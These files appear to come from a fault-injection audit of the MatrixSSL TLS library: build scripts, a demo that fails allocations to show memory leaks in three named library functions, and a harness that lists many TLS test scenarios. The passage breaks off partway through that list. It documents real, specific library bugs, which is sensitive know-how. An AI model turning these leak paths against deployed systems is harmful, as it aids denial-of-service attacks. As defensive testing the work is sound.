        if (rc < 0) from->err = rc;
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) from->done++;
        if (rc == MATRIXSSL_REQUEST_CLOSE) from->closed = 1;
        moved += len;
        if (!to->err && !to->closed) dc_feed(to, copy, len);
        __real_free(copy);
        if (from->err || from->closed) return moved;
    }
}

static void dc_pump(side_t *a, side_t *b)
{
    int i;
    for (i = 0; i < 40; i++)
    {
        int m = dc_flush(a, b) + dc_flush(b, a);
        if (m == 0) break;
    }
}

static void dc_segv(int sig)
{
    void *bt[24];
    int n;
    static const char msg[] = "  child: SIGSEGV (NULL pointer access); backtrace:\n";
    if (write(2, msg, sizeof(msg) - 1) < 0) {}
    n = backtrace(bt, 24);
    backtrace_symbols_fd(bt, n, 2);
    _exit(99);
}

/* Run fn(k) in a forked child for k = from..to. fn returns 0 if all is well,
   non-zero if it detected a violation itself. Returns the number of bad k. */
static int dc_run_forked(const char *what, int (*fn)(long k), long from, long to)
{
    long k;
    int bad = 0;
    for (k = from; k <= to; k++)
    {
        int st;
        pid_t p;
        fflush(stdout); fflush(stderr);
        p = fork();
        if (p == 0)
        {
            int r;
            signal(SIGSEGV, dc_segv);
            alarm(120);
            r = fn(k);
            fflush(stdout);
            _exit(r ? 1 : 0);
        }
        waitpid(p, &st, 0);
        if (WIFSIGNALED(st))
        {
            printf("VIOLATION: %s: process killed by signal %d when allocation #%ld fails\n", what, WTERMSIG(st), k);
            bad++;
        }
        else if (WEXITSTATUS(st) == 99)
        {
            printf("VIOLATION: %s: process crashed with SIGSEGV when allocation #%ld fails (backtrace above)\n", what, k);
            bad++;
        }
        else if (WEXITSTATUS(st) != 0)
        {
            bad++;
        }
    }
    return bad;
}

/* count allocations made by fn(-1) (no fault), in a child */
static long dc_count(int (*fn)(long k))
{
    int pfd[2];
    long n = 0;
    pid_t p;
    if (pipe(pfd) < 0) return 0;
    fflush(stdout);
    p = fork();
    if (p == 0)
    {
        fn(-1);
        if (write(pfd[1], &fi_count, sizeof(fi_count)) < 0) {}
        _exit(0);
    }
    if (read(pfd[0], &n, sizeof(n)) != sizeof(n)) n = 0;
    waitpid(p, NULL, 0);
    close(pfd[0]); close(pfd[1]);
    return n;
}
#endif
