#!/bin/sh
# Builds all demos against the static libraries built in the worktree
# (run `make -j4` at /tmp/seed-C19 first).
set -e
T=/tmp/seed-C19
cd $T/audit-out/demo
INC="-I$T -I$T/core/config -I$T/core/include -I$T/core/osdep/include -I$T/core/include/sfzcl -I. -DUSE_CL_PKCS -DUSE_CL_CERTLIB"
LIBS="$T/matrixssl/libssl_s.a $T/crypto/libcrypt_s.a $T/core/libcore_s.a"
WRAP="-Wl,--wrap=malloc -Wl,--wrap=calloc -Wl,--wrap=realloc -Wl,--wrap=free"
for d in demo1 demo2 demo3 demo4; do
  [ -f $d.c ] || continue
  cc -O1 -g -w -rdynamic $INC -o $d $d.c $LIBS $WRAP -lpthread
  echo built $d
done
