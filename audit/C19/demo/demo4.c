/* C19 demo 4: memory that stays allocated for good after a single failed
   allocation, although the application deletes every object it owns
   (sessions, keys) and calls matrixSslClose().

   Case A: matrixSslGetReadbufOfSize() (matrixssl/matrixsslApi.c) grows the
   input buffer with psRealloc when it already holds part of a record. When
   that realloc fails the function sets ssl->inbuf = NULL, insize = inlen = 0
   and returns PS_MEM_FAIL - but a failed realloc leaves the old block
   allocated, so the old input buffer (with the buffered partial record) is
   orphaned: it is never freed, not even by matrixSslDeleteSession /
   matrixSslDeleteKeys / matrixSslClose, and the bytes already received are
   silently dropped from the stream.

   TLS 1.2 PSK client and server in memory. After the handshake the server
   writes one application data record; the client is given only its first
   100 bytes (matrixSslReceivedData -> MATRIXSSL_REQUEST_RECV, 100 bytes stay
   in inbuf), then asks for a larger read buffer with
   matrixSslGetReadbufOfSize(ssl, 20000) while the allocation fails.

   Case B: nowDoCvPkaInnerECDSA() (matrixssl/sslEncode.c), the client's ECDSA
   CertificateVerify for TLS <= 1.2 and DTLS: psSign() returns the signature in
   a freshly allocated buffer 'sig'; the next statement
       tmpEcdsa = psMalloc(ssl->hsPool, len);
       if (tmpEcdsa == NULL) { return PS_MEM_FAIL; }
   returns without freeing 'sig' (and without the clearPkaAfter() that every
   other exit of the function goes through). TLS 1.2
   ECDHE_ECDSA handshake with client authentication, P-256 test keys; single
   faults are injected over the last allocations of the client's second
   flight (where CertificateVerify is produced).

   Case C: psDhGenSharedSecret() (crypto/pubkey/dh_gen_secret.c):
       if ((err = pstm_init(pool, &tmp)) != PS_SUCCESS) return err;
       if ((err = pstm_init_for_read_unsigned_bin(pool, &p, pBinLen)) != PS_SUCCESS)
           return err;                                  <- 'tmp' is not cleared
   TLS 1.3 (external PSK, psk_dhe_ke) with group ffdhe2048 on both sides,
   exhaustive single faults over the handshake. */
#include "demo_common.h"
#include "testkeys/PSK/psk.h"
#include "testkeys/PSK/tls13_psk.h"
#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_KEY.h"
#include "testkeys/EC/256_EC_CA.h"

static int caseA(long unused)
{
    sslKeys_t *ck = NULL, *sk = NULL;
    sslSessOpts_t co, so;
    side_t c, s;
    psCipher16_t cipher = TLS_PSK_WITH_AES_128_CBC_SHA;
    unsigned char *wb, *rb, *out, *pt;
    unsigned char rec[2048];
    uint32 ptLen;
    int32 n, rc, recLen;
    unsigned char *oldInbuf;
    int bad = 0;

    memset(&c, 0, sizeof(c)); memset(&s, 0, sizeof(s));
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    fi_track = 1;
    if (matrixSslOpen() < 0) return 2;
    if (matrixSslNewKeys(&ck, NULL) < 0 || matrixSslNewKeys(&sk, NULL) < 0) return 2;
    if (matrixSslLoadPsk(ck, PSK_HEADER_TABLE[0].key, 16, PSK_HEADER_TABLE[0].id, 16) < 0) return 2;
    if (matrixSslLoadPsk(sk, PSK_HEADER_TABLE[0].key, 16, PSK_HEADER_TABLE[0].id, 16) < 0) return 2;
    co.versionFlag = so.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&s.ssl, sk, NULL, &so) < 0) return 2;
    if (matrixSslNewClientSession(&c.ssl, ck, NULL, &cipher, 1, NULL, NULL, NULL, NULL, &co) < 0) return 2;
    dc_pump(&c, &s);
    if (!(c.done && s.done)) { printf("handshake failed\n"); return 2; }
    printf("demo4: handshake complete; %u blocks live\n", fi_live);

    /* server writes 600 bytes of application data */
    n = matrixSslGetWritebuf(s.ssl, &wb, 600);
    if (n < 600) return 2;
    memset(wb, 'A', 600);
    if (matrixSslEncodeWritebuf(s.ssl, 600) < 0) return 2;
    recLen = matrixSslGetOutdata(s.ssl, &out);
    if (recLen <= 100 || recLen > (int32) sizeof(rec)) return 2;
    memcpy(rec, out, recLen);
    matrixSslSentData(s.ssl, recLen);

    /* client receives the first 100 bytes of that record only */
    n = matrixSslGetReadbuf(c.ssl, &rb);
    if (n < 100) return 2;
    memcpy(rb, rec, 100);
    rc = matrixSslReceivedData(c.ssl, 100, &pt, &ptLen);
    printf("demo4: client fed 100 of %d record bytes: matrixSslReceivedData = %d (%s), inlen = %d, inbuf = %p (%d bytes)\n",
        recLen, rc, rc == MATRIXSSL_REQUEST_RECV ? "MATRIXSSL_REQUEST_RECV" : "?", c.ssl->inlen, c.ssl->inbuf, c.ssl->insize);
    oldInbuf = c.ssl->inbuf;

    /* the application now wants room for a big read; the allocation fails */
    fi_fail_at = 1; fi_count = 0; fi_fired = 0; fi_armed = 1;
    rc = matrixSslGetReadbufOfSize(c.ssl, 20000, &rb);
    fi_armed = 0;
    printf("demo4: matrixSslGetReadbufOfSize(ssl, 20000) with the allocation failing = %d (PS_MEM_FAIL is %d); "
        "now inbuf = %p, insize = %d, inlen = %d\n", rc, PS_MEM_FAIL, c.ssl->inbuf, c.ssl->insize, c.ssl->inlen);

    if (c.ssl->inbuf != NULL)
    {
        /* library kept its buffer: the application carries on with the normal read path */
        int32 off = 100;
        rc = 0;
        while (off < recLen)
        {
            n = matrixSslGetReadbuf(c.ssl, &rb);
            if (n <= 0) break;
            if (n > recLen - off) n = recLen - off;
            memcpy(rb, rec + off, n); off += n;
            rc = matrixSslReceivedData(c.ssl, n, &pt, &ptLen);
            if (rc != MATRIXSSL_REQUEST_RECV) break;
        }
        printf("demo4: rest of the record fed after the failed call: matrixSslReceivedData = %d (%s), %u plaintext bytes%s\n",
            rc, rc == MATRIXSSL_APP_DATA ? "MATRIXSSL_APP_DATA" : "?", rc == MATRIXSSL_APP_DATA ? ptLen : 0,
            (rc == MATRIXSSL_APP_DATA && ptLen == 600 && pt[0] == 'A' && pt[599] == 'A') ? " - stream intact" : "");
        if (!(rc == MATRIXSSL_APP_DATA && ptLen == 600)) { printf("VIOLATION: the buffered part of the record was lost\n"); bad = 1; }
    }
    /* the application gives up and deletes everything */
    matrixSslDeleteSession(c.ssl);
    matrixSslDeleteSession(s.ssl);
    matrixSslDeleteKeys(ck);
    matrixSslDeleteKeys(sk);
    matrixSslClose();
    printf("demo4: all sessions and keys deleted, matrixSslClose done: %u blocks still allocated, %d invalid frees\n",
        fi_live, fi_badfree);
    if (fi_live)
    {
        unsigned i;
        for (i = 0; i < FI_TAB; i++)
        {
            if (fi_tab[i].p && fi_tab[i].p != (void *) 1)
            {
                printf("VIOLATION: block %p (%zu bytes) leaked%s: matrixSslGetReadbufOfSize dropped its only pointer "
                    "to the input buffer when realloc failed\n", fi_tab[i].p, fi_tab[i].n,
                    fi_tab[i].p == (void *) oldInbuf ? " - it is the session's former inbuf" : "");
            }
        }
        bad = 1;
    }
    if (fi_badfree) { printf("VIOLATION: invalid free\n"); bad = 1; }
    return bad;
}

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    return alert;
}

static void reportLive(const char *tag, long k)
{
    unsigned i;
    for (i = 0; i < FI_TAB; i++)
    {
        if (fi_tab[i].p && fi_tab[i].p != (void *) 1)
        {
            printf("VIOLATION: %s: allocation #%ld failed; after deleting sessions and keys and matrixSslClose "
                "a %zu-byte block (the allocation made just before the failed one: #%u) is still allocated\n",
                tag, k, fi_tab[i].n, fi_tab[i].seq - fi_base_seq);
        }
    }
}

/* B: arm the injector only while the client digests the server's first flight
   and builds its own second flight */
static long caseB_from;
static int caseB(long k)
{
    sslKeys_t *ck = NULL, *sk = NULL;
    sslSessOpts_t co, so;
    side_t c, s;
    psCipher16_t cipher = TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256;
    unsigned char *buf, *copy;
    int32 len;

    memset(&c, 0, sizeof(c)); memset(&s, 0, sizeof(s));
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    fi_track = 1;
    if (matrixSslOpen() < 0) return 0;
    if (matrixSslNewKeys(&ck, NULL) < 0 || matrixSslNewKeys(&sk, NULL) < 0) return 0;
    if (matrixSslLoadEcKeysMem(ck, EC256, sizeof(EC256), EC256KEY, sizeof(EC256KEY), EC256CA, sizeof(EC256CA)) < 0) return 0;
    if (matrixSslLoadEcKeysMem(sk, EC256, sizeof(EC256), EC256KEY, sizeof(EC256KEY), EC256CA, sizeof(EC256CA)) < 0) return 0;
    co.versionFlag = so.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&s.ssl, sk, certCb, &so) < 0) return 0;
    if (matrixSslNewClientSession(&c.ssl, ck, NULL, &cipher, 1, certCb, NULL, NULL, NULL, &co) < 0) return 0;
    dc_flush(&c, &s);                      /* ClientHello -> server */
    len = matrixSslGetOutdata(s.ssl, &buf); /* ServerHello .. ServerHelloDone */
    if (len <= 0) return 0;
    copy = __real_malloc(len); memcpy(copy, buf, len);
    matrixSslSentData(s.ssl, len);
    fi_base_seq = fi_seq;
    fi_fail_at = k; fi_count = 0; fi_fired = 0; fi_armed = 1;
    dc_feed(&c, copy, len);                /* client: verify, ClientKeyExchange, CertificateVerify, Finished */
    fi_armed = 0;
    __real_free(copy);
    if (k < 0) return 0;                   /* counting run */
    matrixSslDeleteSession(c.ssl);
    matrixSslDeleteSession(s.ssl);
    matrixSslDeleteKeys(ck);
    matrixSslDeleteKeys(sk);
    matrixSslClose();
    if (fi_live) { reportLive("case B (ECDSA CertificateVerify)", k); return 1; }
    if (fi_badfree) { printf("VIOLATION: case B: invalid free\n"); return 1; }
    return 0;
}

static int caseC(long k)
{
    sslKeys_t *ck = NULL, *sk = NULL;
    sslSessOpts_t co, so;
    side_t c, s;
    psTls13SessionParams_t sp;
    psCipher16_t cipher = TLS_AES_128_GCM_SHA256;

    memset(&c, 0, sizeof(c)); memset(&s, 0, sizeof(s));
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    fi_track = 1;
    if (matrixSslOpen() < 0) return 0;
    if (matrixSslNewKeys(&ck, NULL) < 0 || matrixSslNewKeys(&sk, NULL) < 0) return 0;
    memset(&sp, 0, sizeof(sp));
    sp.cipherId = TLS_AES_128_GCM_SHA256;
    if (matrixSslLoadTls13Psk(ck, g_tls13_test_psk_256, 32, g_tls13_test_psk_id_sha256,
            sizeof(g_tls13_test_psk_id_sha256), &sp) < 0) return 0;
    if (matrixSslLoadTls13Psk(sk, g_tls13_test_psk_256, 32, g_tls13_test_psk_id_sha256,
            sizeof(g_tls13_test_psk_id_sha256), &sp) < 0) return 0;
    co.versionFlag = so.versionFlag = SSL_FLAGS_TLS_1_3;
    co.tls13SupportedGroups[0] = so.tls13SupportedGroups[0] = namedgroup_ffdhe2048;
    co.tls13SupportedGroupsLen = so.tls13SupportedGroupsLen = 1;
    co.tls13NumClientHelloKeyShares = 1;
    if (matrixSslNewServerSession(&s.ssl, sk, NULL, &so) < 0) return 0;
    if (matrixSslNewClientSession(&c.ssl, ck, NULL, &cipher, 1, NULL, NULL, NULL, NULL, &co) < 0) return 0;
    fi_base_seq = fi_seq;
    fi_fail_at = k; fi_count = 0; fi_fired = 0; fi_armed = 1;
    dc_pump(&c, &s);
    fi_armed = 0;
    if (k < 0)
    {
        if (!(c.done && s.done)) printf("case C: baseline handshake did not complete?!\n");
        return 0;
    }
    matrixSslDeleteSession(c.ssl);
    matrixSslDeleteSession(s.ssl);
    matrixSslDeleteKeys(ck);
    matrixSslDeleteKeys(sk);
    matrixSslClose();
    if (fi_live) { reportLive("case C (psDhGenSharedSecret)", k); return 1; }
    if (fi_badfree) { printf("VIOLATION: case C: invalid free\n"); return 1; }
    return 0;
}

#define WANT(c) (argc < 2 || strchr(argv[1], (c)))
int main(int argc, char **argv)
{
    long n, from;
    int bad = 0, b;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (WANT('A')) {
    printf("demo4 case A: matrixSslGetReadbufOfSize with a partial record buffered\n");
    b = dc_run_forked("case A", caseA, 1, 1);
    if (!b) printf("OK: demo4 case A\n");
    bad += b;
    }
    if (WANT('B')) {
    n = dc_count(caseB);
    printf("demo4 case B: the client makes about %ld allocations between receiving ServerHelloDone and having its "
        "second flight ready (the exact count depends on the random values of the run); CertificateVerify is "
        "produced at the very end, so #%ld..#%ld are failed in turn, up to 6 runs each\n", n, n - 12, n + 12);
    b = 0;
    {
        long k;
        int rep;
        for (k = n - 12; k <= n + 12 && b == 0; k++)
        {
            for (rep = 0; rep < 6 && b == 0; rep++)
            {
                b += dc_run_forked("case B", caseB, k, k);
            }
        }
    }
    printf("demo4 case B: %s\n", b ? "a single fault left memory allocated for good" : "no leak in any of the runs");
    if (!b) printf("OK: demo4 case B\n");
    bad += b;
    }
    if (WANT('C')) {
    n = dc_count(caseC);
    printf("demo4 case C: TLS 1.3 / ffdhe2048 handshake makes %ld allocations; failing each one in turn\n", n);
    b = dc_run_forked("case C", caseC, 1, n);
    printf("demo4 case C: %d of %ld single faults left memory allocated for good\n", b, n);
    if (!b) printf("OK: demo4 case C\n");
    bad += b;
    }
    return bad ? 1 : 0;
}
