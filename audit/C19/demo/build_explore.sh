#!/bin/sh
# usage: build_explore.sh [asan]
# (exploration harness, not a deliverable demo) The "asan" mode expects an ASAN copy of the tree:
#   mkdir /tmp/seed-C19/asan && git -C /tmp/seed-C19 archive HEAD | tar -x -C /tmp/seed-C19/asan && \
#   make -C /tmp/seed-C19/asan -j4 CFLAGS_EXTRA="-fsanitize=address -g -fno-omit-frame-pointer" LDFLAGS=-fsanitize=address
# It was removed again after the runs; logs of all runs are in logs/*.gz
T=/tmp/seed-C19
cd $T/audit-out/demo
if [ "$1" = asan ]; then R=$T/asan; X="-fsanitize=address -g -fno-omit-frame-pointer"; O=explore_asan; else R=$T; X="-g"; O=explore; fi
INC="-I$R -I$R/core/config -I$R/core/include -I$R/core/osdep/include -I$R/core/include/sfzcl -DUSE_CL_PKCS -DUSE_CL_CERTLIB"
cc -O1 -w $X $INC -I. -o $O explore.c $R/matrixssl/libssl_s.a $R/crypto/libcrypt_s.a $R/core/libcore_s.a \
  -Wl,--wrap=malloc -Wl,--wrap=calloc -Wl,--wrap=realloc -Wl,--wrap=free -lpthread
