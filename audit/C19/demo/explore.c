/* Exploration harness: exhaustive single-fault allocation failure over
   parametrised client/server scenarios. Not itself a deliverable demo. */
#include "matrixssl/matrixsslImpl.h"
#include "fi.h"
#include <sys/wait.h>
#include <signal.h>

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"
#include "testkeys/RSA/1024_RSA.h"
#include "testkeys/RSA/1024_RSA_KEY.h"
#include "testkeys/RSA/1024_RSA_CA.h"
#include "testkeys/RSA/3072_RSA_CA.h"
#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_KEY.h"
#include "testkeys/EC/256_EC_CA.h"
#include "testkeys/EC/384_EC_CA.h"
#include "testkeys/PSK/psk.h"
#include "testkeys/PSK/tls13_psk.h"
#include "testkeys/DH/2048_DH_PARAMS.h"
#include "testkeys/OCSP/responses/OCSP_256_EC_GOOD.h"
#include "testkeys/OCSP/responses/OCSP_256_EC_REVOKED.h"
#include "keys/rsa2048_crl.h"
#include "keys/rich_der.h"
#include "testkeys/EC/ED25519.h"
#include "testkeys/EC/ED25519_KEY.h"
#include "testkeys/EC/ED25519_CA.h"
#include "testkeys/RSA/2048_RSA_PSS.h"
#include "testkeys/RSA/2048_RSA_PSS_CA.h"
#include "keys/pss_key_der.h"
#include "testkeys/ECDH_RSA/256_ECDH-RSA.h"
#include "testkeys/ECDH_RSA/256_ECDH-RSA_KEY.h"
#include "testkeys/ECDH_RSA/ALL_ECDH-RSA_CAS.h"
#include "keys/other_ec_der.h"
#include "keys/other_rsa_der.h"

typedef struct
{
    const char *name;
    int cver, sver;         /* versionFlag */
    int cipher;
    int key;                /* 0 RSA2048, 1 EC256, 2 PSK, 3 TLS13 PSK, 4 RSA1024 */
    int clientAuth;
    int resume;             /* 0 none, 1 session id / tls13 ticket, 2 rfc5077 ticket */
    int neg;                /* 0 none, 1 client has wrong CA, 2 wrong expectedName, 3 client cert untrusted by server,
                               4 flip a bit in server flight 5 flip a bit in client flight */
    int opt;                /* O_* */
    int extra;              /* bit0 ALPN+SNI, bit1 maxFragLen, bit2 rehandshake, bit3 OCSP request, bit4 big data, bit5 server-init rehandshake, bit6 resumed rehandshake */
} scen_t;

#define O_X25519 1
#define O_HRR 2
#define O_EARLY 4
#define O_PMTU 8
#define O_OCSP 16
#define O_OCSP_REVOKED 32
#define O_TAMPERCERT 64
#define O_TAMPERCLIENTCERT 128
#define O_KEEPCERTS 256
#define O_CRL 512
#define O_LOAD 1024
#define O_SRVWRONGKEY 2048
#define O_CLNWRONGKEY 4096
#define O_FFDHE 8192
#define V12 SSL_FLAGS_TLS_1_2
#define V13 SSL_FLAGS_TLS_1_3
#define V11 SSL_FLAGS_TLS_1_1
#define D12 (SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS)

static scen_t scens[] = {
    { "t12-ecdhe-rsa",        V12, V12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 0, 0, 0, 0, 0, 0 },
    { "t12-ecdhe-ecdsa-ca",   V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 1, 0, 0, 0, 0 },
    { "t12-rsa-resume",       V12, V12, TLS_RSA_WITH_AES_128_CBC_SHA, 0, 0, 1, 0, 0, 0 },
    { "t12-rsa-ticket",       V12, V12, TLS_RSA_WITH_AES_128_CBC_SHA256, 0, 0, 2, 0, 0, 0 },
    { "t12-psk",              V12, V12, TLS_PSK_WITH_AES_128_CBC_SHA, 2, 0, 0, 0, 0, 0 },
    { "t13-rsa",              V13, V13, TLS_AES_128_GCM_SHA256, 0, 0, 0, 0, 0, 0 },
    { "t13-ec-ca-resume",     V13, V13, TLS_AES_128_GCM_SHA256, 1, 1, 1, 0, 0, 0 },
    { "t13-psk",              V13, V13, TLS_AES_128_GCM_SHA256, 3, 0, 0, 0, 0, 0 },
    { "d12-ecdhe-rsa",        D12, D12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 0, 0, 0, 0, 0, 0 },
    { "d12-ec-ca-resume",     D12, D12, TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA, 1, 1, 1, 0, 0, 0 },
    { "t12-ext",              V12, V12, TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA, 0, 0, 0, 0, 0, 1 | 2 },
    { "mix-c13-s12",          V13 | V12, V12, 0, 0, 0, 0, 0, 0, 0 },
    { "mix-c12-s13",          V12, V13 | V12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 0, 0, 0, 0, 0, 0 },
    { "t13-ext",              V13, V13, TLS_AES_256_GCM_SHA384, 0, 0, 0, 0, 0, 1 | 8 | 16 },
    { "t11-rsa1024",          V11, V11, TLS_RSA_WITH_AES_128_CBC_SHA, 4, 1, 0, 0, 0, 0 },
    { "d12-loss",             D12, D12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 0, 1, 0, 0, 0, 128 },
    /* negative scenarios: handshake must never complete */
    { "neg-t12-wrongca",      V12, V12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 0, 0, 0, 1, 0, 0 },
    { "neg-t13-wrongca",      V13, V13, TLS_AES_128_GCM_SHA256, 0, 0, 0, 1, 0, 0 },
    { "neg-t12-wrongname",    V12, V12, TLS_RSA_WITH_AES_128_CBC_SHA, 0, 0, 0, 2, 0, 0 },
    { "neg-t13-wrongname",    V13, V13, TLS_AES_128_GCM_SHA256, 1, 0, 0, 2, 0, 0 },
    { "neg-t12-badclientcert",V12, V12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 0, 1, 0, 3, 0, 0 },
    { "neg-t13-badclientcert",V13, V13, TLS_AES_128_GCM_SHA256, 0, 1, 0, 3, 0, 0 },
    { "neg-d12-wrongca",      D12, D12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 0, 1, 0, 0 },
    { "neg-t12-ecwrongca",    V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 0, 1, 0, 0 },
    { "t13-x25519",           V13, V13, TLS_AES_128_GCM_SHA256, 1, 0, 0, 0, O_X25519, 0 },
    { "t13-hrr",              V13, V13, TLS_CHACHA20_POLY1305_SHA256, 1, 1, 0, 0, O_HRR, 0 },
    { "t13-early",            V13, V13, TLS_AES_128_GCM_SHA256, 1, 0, 1, 0, O_EARLY, 0 },
    { "d12-pmtu",             D12, D12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 1, 0, 0, O_PMTU, 0 },
    { "d12-pmtu-loss",        D12, D12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 1, 0, 0, O_PMTU, 128 },
    { "t12-ocsp",             V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 0, 0, O_OCSP, 8 },
    { "t13-ocsp",             V13, V13, TLS_AES_128_GCM_SHA256, 1, 0, 0, 0, O_OCSP, 8 },
    { "t12-keepcerts",        V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 1, 0, 0, O_KEEPCERTS, 0 },
    { "neg-t12-ocsp-revoked", V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 0, 6, O_OCSP|O_OCSP_REVOKED, 8 },
    { "neg-t13-ocsp-revoked", V13, V13, TLS_AES_128_GCM_SHA256, 1, 0, 0, 6, O_OCSP|O_OCSP_REVOKED, 8 },
    { "neg-t12-tampercert",   V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 0, 6, O_TAMPERCERT, 0 },
    { "neg-t12-tampercert-rsa",V12, V12, TLS_RSA_WITH_AES_128_CBC_SHA, 4, 0, 0, 6, O_TAMPERCERT, 0 },
    { "neg-t13-tampercert",   V13, V13, TLS_AES_128_GCM_SHA256, 1, 0, 0, 6, O_TAMPERCERT, 0 },
    { "neg-t12-tamperclientcert", V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 1, 0, 3, O_TAMPERCLIENTCERT, 0 },
    { "neg-t13-tamperclientcert", V13, V13, TLS_AES_128_GCM_SHA256, 1, 1, 0, 3, O_TAMPERCLIENTCERT, 0 },
    { "neg-t12-tamperske",    V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 0, 4, 0, 0 },
    { "neg-t12-tamperske-rsa",V12, V12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 4, 0, 0, 4, 0, 0 },
    { "neg-d12-tamperske",    D12, D12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 0, 4, 0, 0 },
    { "neg-t12-crl",          V12, V12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 0, 0, 0, 6, O_CRL, 0 },
    { "neg-t13-crl",          V13, V13, TLS_AES_128_GCM_SHA256, 0, 0, 0, 6, O_CRL, 0 },
    { "load-rsa-pem",         0, 0, 0, 0, 0, 0, 0, O_LOAD, 1 },
    { "load-rsa-des3",        0, 0, 0, 0, 0, 0, 0, O_LOAD, 2 },
    { "load-rsa-aes",         0, 0, 0, 0, 0, 0, 0, O_LOAD, 3 },
    { "load-rsa-p8enc",       0, 0, 0, 0, 0, 0, 0, O_LOAD, 4 },
    { "load-rsa-p12",         0, 0, 0, 0, 0, 0, 0, O_LOAD, 5 },
    { "load-ec-p12",          0, 0, 0, 0, 0, 0, 0, O_LOAD, 6 },
    { "load-chain",           0, 0, 0, 0, 0, 0, 0, O_LOAD, 7 },
    { "load-two-ids",         0, 0, 0, 0, 0, 0, 0, O_LOAD, 8 },
    { "load-ed25519",         0, 0, 0, 0, 0, 0, 0, O_LOAD, 9 },
    { "load-pss",             0, 0, 0, 0, 0, 0, 0, O_LOAD, 10 },
    { "load-misc",            0, 0, 0, 0, 0, 0, 0, O_LOAD, 11 },
    { "load-p8der",           0, 0, 0, 0, 0, 0, 0, O_LOAD, 12 },
    { "load-crl",             0, 0, 0, 0, 0, 0, 0, O_LOAD, 13 },
    { "parse-rich",           0, 0, 0, 0, 0, 0, 0, O_LOAD, 14 },
    { "t12-richcert",         V12, V12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 5, 1, 0, 0, O_KEEPCERTS, 0 },
    { "t13-richcert",         V13, V13, TLS_AES_128_GCM_SHA256, 5, 1, 0, 0, 0, 0 },
    { "neg-t12-srvwrongkey-ec",  V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 0, 6, O_SRVWRONGKEY, 0 },
    { "neg-t12-srvwrongkey-rsa", V12, V12, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, 0, 0, 0, 6, O_SRVWRONGKEY, 0 },
    { "neg-t12-srvwrongkey-kx",  V12, V12, TLS_RSA_WITH_AES_128_CBC_SHA, 0, 0, 0, 6, O_SRVWRONGKEY, 0 },
    { "neg-t13-srvwrongkey-ec",  V13, V13, TLS_AES_128_GCM_SHA256, 1, 0, 0, 6, O_SRVWRONGKEY, 0 },
    { "neg-t13-srvwrongkey-rsa", V13, V13, TLS_AES_128_GCM_SHA256, 0, 0, 0, 6, O_SRVWRONGKEY, 0 },
    { "neg-d12-srvwrongkey-ec",  D12, D12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 0, 6, O_SRVWRONGKEY, 0 },
    { "neg-t12-clnwrongkey-ec",  V12, V12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 1, 0, 3, O_CLNWRONGKEY, 0 },
    { "neg-t12-clnwrongkey-rsa", V12, V12, TLS_RSA_WITH_AES_128_CBC_SHA, 0, 1, 0, 3, O_CLNWRONGKEY, 0 },
    { "neg-t13-clnwrongkey-ec",  V13, V13, TLS_AES_128_GCM_SHA256, 1, 1, 0, 3, O_CLNWRONGKEY, 0 },
    { "neg-t13-clnwrongkey-rsa", V13, V13, TLS_AES_128_GCM_SHA256, 0, 1, 0, 3, O_CLNWRONGKEY, 0 },
    { "neg-d12-clnwrongkey-ec",  D12, D12, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, 1, 1, 0, 3, O_CLNWRONGKEY, 0 },
    { "t13-ffdhe-psk",        V13, V13, TLS_AES_128_GCM_SHA256, 3, 0, 0, 0, O_FFDHE, 0 },
    { "t13-ffdhe-hrr-psk",    V13, V13, TLS_AES_128_GCM_SHA256, 3, 0, 0, 0, O_FFDHE|O_HRR, 0 },
    { "t13-x25519-psk",       V13, V13, TLS_AES_128_GCM_SHA256, 3, 0, 0, 0, O_X25519, 0 },
    { "t13-hrr-psk",          V13, V13, TLS_AES_128_GCM_SHA256, 3, 0, 0, 0, O_HRR, 0 },
